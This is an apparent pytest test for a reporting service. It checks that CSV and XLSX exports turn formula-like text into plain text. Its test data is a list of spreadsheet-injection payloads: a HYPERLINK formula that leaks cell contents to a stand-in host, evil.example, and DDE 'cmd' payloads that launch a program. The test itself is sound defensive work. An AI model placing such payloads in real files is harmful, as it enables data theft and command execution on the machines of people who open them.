"""A spreadsheet never runs text from the club's records as a formula: in a real CSV and XLSX export, text
cells beginning with `=`, `+`, `-`, `@`, tab or carriage return come out as plain text (leading
apostrophe), other text and numbers unchanged."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import UTC, datetime
from pathlib import Path

from openpyxl import load_workbook

from services.reporting import store
from services.reporting.main import create_app
from services.reporting.settings import DATA_DIR, ReportingSettings
from shared.clock import FakeClock
from tests.support.asgi import running
from tests.support.credentials import grant

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = "Tập huấn kỹ năng sống cho trẻ em"


async def test_text_a_spreadsheet_would_run_is_neutralised_in_csv_and_xlsx_exports(base_env, monkeypatch, tmp_path):
    data = tmp_path / "data"
    shutil.copytree(DATA_DIR, data)
    with (data / "roadmap-2023-2027.csv").open("a", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        for i, title in enumerate([*HOSTILE, PLAIN]):
            writer.writerow([2025, f"injected{i}", title, "2025-06-30"])
    for key, value in base_env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("REPORTING_DATA_DIR", str(Path(data)))
    app = create_app(ReportingSettings(), clock=FakeClock(datetime(2025, 12, 20, 3, tzinfo=UTC)))
    async with running(app) as client:
        chair = await grant(app.state.runtime.sessions, store.credentials, "chair")
        as_csv = await client.get("/v1/reports/export/plan", params={"period": "2025", "format": "csv"}, headers=chair)
        as_xlsx = await client.get(
            "/v1/reports/export/plan", params={"period": "2025", "format": "xlsx"}, headers=chair
        )
    assert as_csv.status_code == as_xlsx.status_code == 200

    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"), newline="")))
    titles = {row[0]: row[2] for row in rows[1:]}
    for i, title in enumerate(HOSTILE):
        assert titles[f"2025-injected{i}"] == "'" + title
    assert titles[f"2025-injected{len(HOSTILE)}"] == PLAIN

    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    by_id = {row[0].value: row for row in sheet.iter_rows(min_row=3)}
    for i, title in enumerate(HOSTILE):
        assert by_id[f"2025-injected{i}"][2].value == "'" + title
    plain = by_id[f"2025-injected{len(HOSTILE)}"]
    assert plain[2].value == PLAIN and plain[1].value == 2025  # numbers stay numbers
